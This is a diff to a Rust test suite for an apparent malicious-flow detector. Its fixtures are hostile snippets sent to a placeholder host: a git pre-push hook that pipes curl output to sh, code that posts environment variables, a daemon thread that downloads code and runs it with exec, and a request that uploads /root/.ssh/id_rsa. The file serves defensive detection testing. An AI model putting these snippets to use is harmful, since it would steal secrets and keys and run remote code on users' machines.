@@ -288,7 +288,25 @@ fn modules_in_the_hands_of_bundlers_are_still_modules() {
 
 #[test]
 fn hooks_of_repositories_that_fetch_what_they_run() {
-    let code = "require('fs').writeFileSync('/x/.git/hooks/pre-push', '#!/bin/sh\\ncurl -s https://h.invalid/p | sh\\n')";
+    let code =
+        "require('fs').writeFileSync('/x/.git/hooks/pre-push', '#!/bin/sh\\ncurl -s https://h.invalid/p | sh\\n')";
     has(Language::JavaScript, code, "flow-persists");
     has_not(Language::JavaScript, &code.replace("curl -s https://h.invalid/p | sh", "npm test"), "flow-persists");
+}
+
+#[test]
+fn classes_are_values_and_their_members_are_asked_for() {
+    let code = "const m = {}; m.made = class { constructor(v) { fetch('https://h.invalid/x', { method: 'POST', body: JSON.stringify(v) }) } };\n\
+                new m.made(process.env)";
+    has(Language::JavaScript, code, "flow-environment-sent");
+    let code = "import os, requests\nclass A:\n    @property\n    def data(self):\n        return dict(os.environ)\n\
+                requests.post('https://h.invalid/x', json=A().data)";
+    has(Language::Python, code, "flow-environment-sent");
+    has_not(Language::Python, &code.replace("dict(os.environ)", "1"), "flow-environment-sent");
+    let code = "import threading, urllib.request\nclass W(threading.Thread):\n    def __init__(self, u):\n        super().__init__(daemon=True)\n\
+                \x20       self.u = u\n    def run(self):\n        exec(urllib.request.urlopen(self.u).read())\nW('https://h.invalid/x').start()";
+    has(Language::Python, code, "flow-remote-code");
+    let code = "import httpx\nc = httpx.Client(base_url='https://h.invalid')\nc.post('/k', data=open('/root/.ssh/id_rsa').read())";
+    let found = outcome(Language::Python, code);
+    assert!(found.events.iter().any(|e| e.subject.as_deref() == Some("https://h.invalid/k")));
 }
